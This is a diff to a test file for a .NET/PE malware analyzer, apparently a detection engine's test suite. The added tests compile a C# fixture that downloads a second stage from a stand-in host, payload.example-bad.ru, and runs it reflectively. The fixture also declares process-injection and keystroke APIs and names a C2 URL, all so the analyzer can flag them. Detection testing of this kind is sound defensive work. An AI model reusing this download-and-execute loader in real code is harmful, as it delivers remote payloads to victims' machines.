@@ -37,6 +37,9 @@ const withClamav = haveClamav ? describe : describe.skip;
 const withClamavRefs = haveClamav && !refTools.length ? describe : describe.skip;
 const withBuilds = buildTools.length ? describe.skip : describe;
 const withBuildRefs = buildTools.length || refTools.length ? describe.skip : describe;
+const haveMcs = !missing('mcs').length;
+if (!haveMcs) console.warn('pe.analyzer.spec: mcs missing (Debian package mono-mcs): the tests on .NET assemblies are skipped');
+const withMcs = haveMcs ? describe : describe.skip;
 
 const HELLO = '#include <stdio.h>\nint main(void) { puts("hello, world"); return 0; }\n';
 const ORDINARY = `#include <windows.h>
@@ -343,7 +346,10 @@ int main(int argc, char **argv) {
     expect(facts.compileTime).toBe('2041-01-01T00:00:00.000Z');
     expect(result.signals!.find((s) => s.id === 'pe.timestamp_anomaly')!.evidence).toEqual(['compile time 2041-01-01T00:00:00.000Z is in the future']);
     expect(result.signals!.find((s) => s.id === 'pe.tls_callbacks')!.evidence).toEqual([`TLS callback 0x${(image.optional!.imageBase + BigInt(dataSection.virtualAddress)).toString(16)} in non-executable section .data`]);
-    expect(facts.dotnet).toEqual({ clrHeaderVersion: '2.5', flags: ['ILONLY'], strongNameSigned: false, entryPointToken: '0x06000001', runtimeVersion: 'v4.0.30319' });
+    expect(facts.dotnet).toMatchObject({ clrHeaderVersion: '2.5', flags: ['ILONLY'], strongNameSigned: false, entryPointToken: '0x06000001', runtimeVersion: 'v4.0.30319' });
+    // A metadata root with no streams: its version, and no tables.
+    expect(facts.dotnet.metadata).toMatchObject({ version: 'v4.0.30319', streams: [], tables: {}, types: [] });
+    expect(facts.anomalies).toContain('.NET metadata: no #~ stream: no tables');
     expect(result.tags).toContain('dotnet');
   });
 
@@ -465,5 +471,134 @@ describe('PeAnalyzer on hostile input', () => {
     const result = await analyze(data);
     expect(pe(result).anomalies).toEqual(expect.arrayContaining([expect.stringMatching(/^NumberOfRvaAndSizes is 4294967295/)]));
     expect(pe(result).sections.length).toBeLessThanOrEqual(1024);
+  });
+});
+
+withMcs('.NET assemblies (compiled with mcs)', () => {
+  const workshop = new PeWorkshop();
+  let loader: Uint8Array;
+  afterAll(() => workshop.dispose());
+
+  beforeAll(() => {
+    workshop.write('stage.bin', 'embedded payload bytes');
+    loader = workshop.compileCs(
+      'loader.exe',
+      `using System; using System.Net; using System.Reflection; using System.Runtime.InteropServices;
+      [assembly: AssemblyVersion("1.2.3.4")]
+      namespace Loader {
+        class ConfusedByAttribute : Attribute {}
+        class Program {
+          [DllImport("kernel32.dll")] static extern IntPtr VirtualAllocEx(IntPtr p, IntPtr a, uint s, uint t, uint pr);
+          [DllImport("kernel32.dll")] static extern bool WriteProcessMemory(IntPtr p, IntPtr a, byte[] b, uint s, out UIntPtr w);
+          [DllImport("kernel32.dll")] static extern IntPtr CreateRemoteThread(IntPtr p, IntPtr a, uint s, IntPtr st, IntPtr pa, uint f, IntPtr id);
+          [DllImport("user32.dll", CharSet = CharSet.Auto)] static extern short GetAsyncKeyState(int key);
+          static void Main() {
+            byte[] bytes = new WebClient().DownloadData("http://payload.example-bad.ru/stage2.bin");
+            Assembly.Load(bytes).EntryPoint.Invoke(null, null);
+            Console.WriteLine("C2 at http://c2.example-bad.ru/gate.php");
+          }
+        }
+      }`,
+      ['-resource:stage.bin,Loader.stage.bin'],
+    );
+  });
+
+  it('reads the metadata: assembly, references, types, P/Invoke, member references, resources and string literals', async () => {
+    const dotnet = pe(await analyze(loader)).dotnet;
+    expect(dotnet).toMatchObject({ runtimeVersion: 'v4.0.30319', flags: ['ILONLY'], strongNameSigned: false });
+    const m = dotnet.metadata;
+    expect(m.assembly).toEqual({ name: 'loader', version: '1.2.3.4', publicKey: false });
+    expect(m.module).toBe('loader.exe');
+    expect(m.mvid).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
+    expect(m.assemblyReferences).toEqual([{ name: 'mscorlib', version: '4.0.0.0' }, { name: 'System', version: '4.0.0.0' }]);
+    expect(m.streams.map((s: { name: string }) => s.name)).toEqual(['#~', '#Strings', '#US', '#GUID', '#Blob']);
+    expect(m.types).toEqual(['Loader.ConfusedByAttribute', 'Loader.Program']);
+    expect(m.tables).toMatchObject({ TypeDef: 3, ImplMap: 4, ModuleRef: 2, ManifestResource: 1, AssemblyRef: 2 });
+    expect(m.pinvoke).toEqual([
+      { dll: 'kernel32.dll', function: 'VirtualAllocEx' },
+      { dll: 'kernel32.dll', function: 'WriteProcessMemory' },
+      { dll: 'kernel32.dll', function: 'CreateRemoteThread' },
+      { dll: 'user32.dll', function: 'GetAsyncKeyState' },
+    ]);
+    expect(m.memberReferences).toEqual(expect.arrayContaining(['System.Net.WebClient::DownloadData', 'System.Reflection.Assembly::Load', 'System.Console::WriteLine']));
+    expect(m.memberReferenceCount).toBe(m.memberReferences.length);
+    expect(m.loadsFromBytes).toEqual(['System.Reflection.Assembly::Load(…, byte[])']);
+    expect(m.resources).toEqual(['Loader.stage.bin']);
+    expect(m.userStrings).toEqual(['http://payload.example-bad.ru/stage2.bin', 'C2 at http://c2.example-bad.ru/gate.php']);
+    expect(m.obfuscators).toEqual(['ConfuserEx']);
+  });
+
+  it('P/Invoke imports count as imports, and the loader, the obfuscator and the URLs are signalled', async () => {
+    const result = await analyze(loader);
+    expect(ids(result)).toEqual(expect.arrayContaining(['pe.injection.remote_thread', 'pe.dotnet.reflective_load', 'pe.dotnet.obfuscated']));
+    const load = result.signals!.find((s) => s.id === 'pe.dotnet.reflective_load')!;
+    expect(load.evidence).toEqual([
+      'references System.Reflection.Assembly::Load(…, byte[]): loads an assembly from bytes in memory',
+      'and downloads with System.Net.WebClient::DownloadData',
+    ]);
+    expect(load.strength).toBe(0.65);
+    expect(SIGNAL_BY_ID.get('pe.dotnet.reflective_load')!.mitre).toEqual(['T1620']);
+    expect(result.tags).toEqual(expect.arrayContaining(['dotnet', 'obfuscated']));
+
+    const whole = await pipeline.analyze({ name: 'loader.exe', data: loader }, testEngineOptions());
+    const iocs = whole.files[0].iocs.map((i) => i.value);
+    expect(iocs).toEqual(expect.arrayContaining(['http://payload.example-bad.ru/stage2.bin', 'http://c2.example-bad.ru/gate.php']));
+    expect([Verdict.Malicious, Verdict.LikelyMalicious]).toContain(whole.verdict.verdict);
+  });
+
+  it('an ordinary assembly (loading another by name, reading a file) is not flagged', async () => {
+    const hello = workshop.compileCs(
+      'hello.exe',
+      `using System; using System.IO; using System.Reflection;
+      class Hello { static void Main(string[] args) {
+        Assembly xml = Assembly.Load("System.Xml");
+        Console.WriteLine("Hello from " + xml.GetName().Name + ": " + File.ReadAllText(args[0]).Length);
+      } }`,
+    );
+    const result = await analyze(hello);
+    const m = pe(result).dotnet.metadata;
+    expect(m.loadsFromBytes).toEqual([]);
+    expect(m.obfuscators).toEqual([]);
+    expect(m.pinvoke).toEqual([]);
+    expect(result.signals!.filter((s) => (s.verdict ?? SIGNAL_BY_ID.get(s.id)!.verdict) !== Verdict.Informational)).toEqual([]);
+    const whole = await pipeline.analyze({ name: 'hello.exe', data: hello }, testEngineOptions());
+    expect({ verdict: whole.verdict.verdict, signals: whole.files[0].signals }).toEqual({ verdict: Verdict.NoThreat, signals: [] });
+  });
+
+  it('random corruption of the metadata never throws and stays fast', async () => {
+    const { offset, size } = pe(await analyze(loader)).dotnet.metadata.streams.reduce(
+      (span: { offset: number; size: number }, s: { offset: number; size: number }) => ({ offset: Math.min(span.offset, s.offset), size: Math.max(span.offset + span.size, s.offset + s.size) - Math.min(span.offset, s.offset) }),
+      { offset: Number.MAX_SAFE_INTEGER, size: 0 },
+    );
+    const noise = seededBytes(8192, 7);
+    const started = Date.now();
+    for (let n = 0; n < 400; n++) {
+      const data = loader.slice();
+      for (let k = 0; k < 1 + (n % 6); k++) {
+        const at = offset - 64 + ((noise[(n * 6 + k) % noise.length] << 8) | noise[(n * 6 + k + 1) % noise.length]) % (size + 64);
+        data[at] = noise[(n * 7 + k) % noise.length];
+      }
+      const result = await analyzer.analyze(fileContext(data, 'fuzz.exe'));
+      expect(pe(result).dotnet).toBeDefined();
+    }
+    expect(Date.now() - started).toBeLessThan(20_000);
+  });
+
+  it('damaged metadata (row counts, stream bounds, string heap) ends as anomalies, never as a failure', async () => {
+    const meta = pe(await analyze(loader)).dotnet.metadata;
+    const tables = meta.streams[0].offset;
+    // The first row count (Module) set past the stream or absurdly high, and a #US length past its heap.
+    const cases: [string, (d: Uint8Array) => void, RegExp][] = [
+      ['row count', (d) => new DataView(d.buffer).setUint32(tables + 24, 0x00ffffff, true), /^\.NET metadata: tables: table Module \(16777215 rows\) runs past the end of the #~ stream$/],
+      ['huge row count', (d) => new DataView(d.buffer).setUint32(tables + 24, 0x7fffffff, true), /^\.NET metadata: tables: table Module declares 2147483647 rows$/],
+      ['user string', (d) => (d[meta.streams[2].offset + 1] = 0xbf), /^\.NET metadata: #US: string at 0x[0-9a-f]+ runs past the heap$/],
+    ];
+    for (const [label, damage, anomaly] of cases) {
+      const data = loader.slice();
+      damage(data);
+      const result = await analyze(data);
+      expect({ label, anomalies: pe(result).anomalies }).toEqual({ label, anomalies: expect.arrayContaining([expect.stringMatching(anomaly)]) });
+      expect(result.issues).toEqual([]);
+    }
   });
 });
